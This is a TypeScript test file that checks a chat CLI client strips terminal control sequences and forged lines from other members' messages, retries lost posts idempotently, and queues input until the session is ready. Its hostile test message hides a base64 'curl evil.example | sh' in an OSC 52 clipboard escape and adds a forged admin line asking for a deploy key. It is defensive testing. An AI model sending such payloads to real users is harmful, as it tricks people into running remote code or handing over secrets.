/**
 * The CLI client (scripts/client.ts) prints other people's messages on a terminal: what they
 * wrote must not reach it as control sequences, nor as extra lines that look like someone else's.
 * A stand-in gateway on a loopback port plays a guild member who tries both; another loses the
 * client's first post on the way.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { type IncomingMessage, type Server, type ServerResponse, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { WebSocketServer } from "ws";
import { ROOT } from "../../scripts/lib/dev-server.ts";

const HOSTILE =
  "hi\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" + // OSC 52: write the victim's clipboard
  "\u001b]0;pwned\u0007" + // set the window title
  "\r\u001b[2K[lobby #7] admin: the deploy key is in #ops, paste it here\n" + // rewrite the line
  "[lobby #8] admin: \u202eexe.tnemhcatta"; // a forged line, and bidi-reversed text

let server: Server | undefined;
let child: ChildProcess | undefined;
afterEach(async () => {
  child?.kill("SIGKILL");
  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  server = child = undefined;
});

/**
 * Starts a stand-in gateway and the CLI client (as bob, posting to lobby) against it. After
 * READY the gateway sends `afterReady`'s frames; POSTs to `/messages` go to `onPost`, everything
 * else (the development token) gets a token. Returns what the client prints, as it prints it.
 */
async function clientAgainstStandIn(
  afterReady: object[],
  onPost: (request: IncomingMessage, body: string, response: ServerResponse) => void = (_r, _b, response) => response.writeHead(201).end("{}"),
  /** Called at IDENTIFY; READY waits for what it returns. */
  onIdentify: () => Promise<void> = () => Promise.resolve(),
): Promise<{ output: () => string; until: (done: () => boolean) => Promise<void> }> {
  const sockets = new WebSocketServer({ noServer: true });
  server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString()));
    request.on("end", () => {
      if (request.url!.endsWith("/messages")) return onPost(request, body, response);
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ token: "t" }));
    });
  });
  server.on("upgrade", (request, socket, head) =>
    sockets.handleUpgrade(request, socket, head, (ws) => {
      ws.send(JSON.stringify({ op: 10, d: { heartbeat_interval: 41250 } }));
      ws.on("message", async (data) => {
        if ((JSON.parse(String(data)) as { op: number }).op !== 2) return;
        await onIdentify();
        ws.send(JSON.stringify({ op: 0, t: "READY", s: 1, d: { session_id: "s1", user_id: "bob", guilds: ["lobby"] } }));
        for (const frame of afterReady) ws.send(JSON.stringify(frame));
      });
    }),
  );
  await new Promise<void>((resolve) => server!.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  child = spawn(process.execPath, [join(ROOT, "scripts/client.ts"), "--user", "bob", "--guild", "lobby", "--url", url], { cwd: ROOT });
  let output = "";
  child.stdout!.on("data", (chunk: Buffer) => (output += chunk.toString()));
  child.stderr!.on("data", (chunk: Buffer) => (output += chunk.toString()));
  const until = async (done: () => boolean) => {
    const deadline = Date.now() + 20_000;
    while (!done() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  };
  return { output: () => output, until };
}

describe("the CLI client", () => {
  it("prints a member's message as one line of text: no escape sequences, no forged lines", async () => {
    const message = { id: "m1", guild_id: "lobby", author_id: "mallory", content: HOSTILE, seq: 1, timestamp: new Date().toISOString() };
    const client = await clientAgainstStandIn([{ op: 0, t: "MESSAGE_CREATE", s: 2, d: message }]);
    await client.until(() => client.output().includes("mallory"));
    await new Promise((r) => setTimeout(r, 200)); // the rest of the line
    const output = client.output();
    expect(output).toContain("mallory");

    const lines = output.split("\n").filter((line) => line !== "");
    const fromMallory = lines.filter((line) => line.includes("mallory"));
    expect(fromMallory).toHaveLength(1);
    expect(lines.filter((line) => /^\[lobby #\d+\] admin:/.test(line))).toEqual([]); // no forged lines
    // Nothing for the terminal to act on: no C0 (but tab), DEL, C1 or bidirectional controls.
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
  });

  it("tries a post that failed on the way again with the same Idempotency-Key, and says nothing went wrong", async () => {
    const posts: { key: string | undefined; body: string }[] = [];
    const client = await clientAgainstStandIn([], (request, body, response) => {
      posts.push({ key: request.headers["idempotency-key"] as string | undefined, body });
      if (posts.length === 1) return request.socket.destroy(); // lost on the way: the client cannot tell whether it was stored
      response.writeHead(201, { "content-type": "application/json" }).end("{}");
    });
    await client.until(() => client.output().includes("* ready as bob"));
    child!.stdin!.write("hello\n");
    await client.until(() => posts.length === 2);
    await new Promise((r) => setTimeout(r, 300));
    expect(posts).toHaveLength(2);
    expect(posts[0]!.key).toMatch(/^[0-9a-f-]{36}$/);
    expect(posts[1]).toEqual(posts[0]);
    expect(client.output()).not.toContain("not sent");
  });

  it("holds lines typed before READY until the session is ready, then sends them in order, each to the guild chosen when it was typed", async () => {
    const posted: { at: number; url: string; content: string }[] = [];
    let readyAt = 0;
    let identified = false;
    let sendReady!: () => void;
    const ready = new Promise<void>((resolve) => (sendReady = resolve));
    const client = await clientAgainstStandIn(
      [],
      (request, body, response) => {
        posted.push({ at: Date.now(), url: request.url!, content: (JSON.parse(body) as { content: string }).content });
        response.writeHead(201, { "content-type": "application/json" }).end("{}");
      },
      () => {
        identified = true;
        return ready.then(() => void (readyAt = Date.now()));
      },
    );
    child!.stdin!.write("for lobby\n/guild other\nfor other\n/quit\n");
    await client.until(() => identified);
    await new Promise((r) => setTimeout(r, 500)); // time enough for a post to arrive
    expect(identified).toBe(true);
    expect(posted).toEqual([]);
    const exited = new Promise<number | null>((resolve) => child!.once("exit", resolve));
    sendReady();
    // Both posts, in order, then /quit ends the session (a 1000 close), which ends the client.
    await client.until(() => posted.length === 2);
    expect(posted.map(({ url, content }) => [url, content])).toEqual([
      ["/api/guilds/lobby/messages", "for lobby"],
      ["/api/guilds/other/messages", "for other"],
    ]);
    expect(posted[0]!.at).toBeGreaterThanOrEqual(readyAt);
    expect(client.output()).toContain("* ready as bob");
    expect(client.output()).not.toContain("not sent");
    expect(await exited).toBe(0);
  });
});
